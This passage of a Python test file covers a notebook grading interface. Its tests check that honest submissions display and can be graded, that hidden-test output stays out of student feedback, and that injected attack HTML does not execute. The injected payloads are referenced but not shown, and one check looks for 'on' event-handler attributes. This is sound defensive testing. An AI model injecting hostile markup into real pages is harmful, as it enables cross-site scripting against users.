            one for one in inner.find_all(True) if any(a.startswith("on") for a in one.attrs)
        ]
    shot(watched.page, "formgrader-hostile")


@pytest.mark.browser
@pytest.mark.slow
def test_formgrader_shows_honest_work_and_takes_marks(watched, room, formgrader):
    open_formgrader(watched, room, formgrader, HONEST)
    page = watched.page
    assert_shown(page)
    assert SECRET in page.locator("body").inner_text()  # for the instructor
    page.locator(".glyphicon.name-hidden").click()
    page.get_by_text(HONEST, exact=True).first.wait_for()
    page.locator("#test-half").fill("0.5")
    with page.expect_response("**/formgrader/api/grade/**") as answer:
        page.locator("#test-double").click()
    assert answer.value.ok
    assert watched.refused == []
    shot(page, "formgrader-honest")


@pytest.mark.browser
@pytest.mark.slow
def test_a_script_in_formgrader_would_not_run(watched, room, formgrader):
    open_formgrader(watched, room, formgrader, HONEST)
    put = "html => document.querySelector('#notebook').insertAdjacentHTML('beforeend', html)"
    for source in ATTACKS.values():
        if "refresh" not in source:
            watched.page.evaluate(put, source)
    watched.settle()
    assert not watched.page.evaluate("'hacked' in window")
    assert watched.refused


def assert_shown(page) -> None:
    """Table, plot, maths and verdict are there and have a size."""
    for selector in ("table.dataframe", ".output_png img", "[role=status]", "table >> text=b"):
        box = page.locator(selector).last.bounding_box()
        assert box["width"] > 5
        assert box["height"] > 5
    assert page.locator(".output_png img").evaluate("picture => picture.naturalWidth") > 100
    assert page.get_by_text("The loss is $-\\log p$").is_visible()
    verdict = page.locator("[role=status]").last
    assert "not right yet, 1 of 2 points" in verdict.inner_text()
    edge = verdict.evaluate("box => getComputedStyle(box).borderLeft")
    assert edge == "6px solid rgb(213, 94, 0)"


def test_what_runs_after_hidden_tests_shows_nothing_of_what_they_asked():
    def code(source: str, *outputs: NotebookNode, **flags: object) -> NotebookNode:
        metadata = {"grade_id": source[:3], "schema_version": 3, "solution": False, "task": False}
        metadata |= {"grade": False, "locked": False, "points": 1, **flags}
        return v4.new_code_cell(source, outputs=[*outputs], metadata={"nbgrader": metadata})

    def error(name: str, text: str) -> NotebookNode:
        lines = ["line 1 of the test: assert g(1) == 2", f"{name}: {text}"]
        return v4.new_output("error", ename=name, evalue=text, traceback=lines)

    asked = v4.new_output("stream", name="stdout", text="asked 37")
    drawn = v4.new_output("execute_result", data={"text/plain": "37"})
    hidden = "assert f(2) == 4\n### BEGIN HIDDEN TESTS\nassert f(37) == 1369\n### END HIDDEN TESTS"
    before = code("print('hello')", v4.new_output("stream", name="stdout", text="hello"))
    tested = {"grade": True, "locked": True}
    notebook = v4.new_notebook(
        cells=[
            before,
            code(hidden, **tested),
            code("print('asked', *seen)", asked, drawn),
            code("assert g(1) == 2", asked, error("ValueError", "37 (line 3: raise)"), **tested),
            code("assert h(1) == 2", error("AssertionError", "h(1) is not 2"), **tested),
        ]
    )
    shown, _ = feedback.HideTests().preprocess(notebook, {})
    texts = [str(one.outputs) for one in shown.cells]
    assert "hello" in texts[0]
    assert not [text for text in texts if "37" in text]
    assert "hidden tests had run before this cell" in texts[2]
    assert "line 1 of the test: assert g(1) == 2" in texts[3]
    assert "h(1) is not 2" in texts[4]


def test_the_list_at_the_top_names_the_exercise_that_a_cell_checks():
    flags = {"nbgrader": {"grade_id": "test-softmax"}}
    check = v4.new_code_cell('check("04.softmax", softmax)', metadata=flags)
    plain = v4.new_code_cell("assert softmax([0])", metadata=flags)
    text = v4.new_markdown_cell('check("04.softmax", softmax)', metadata=flags)
    names = [name_of_graded(one) for one in (check, plain, text)]
    assert names == ["04.softmax", "test-softmax", "test-softmax"]
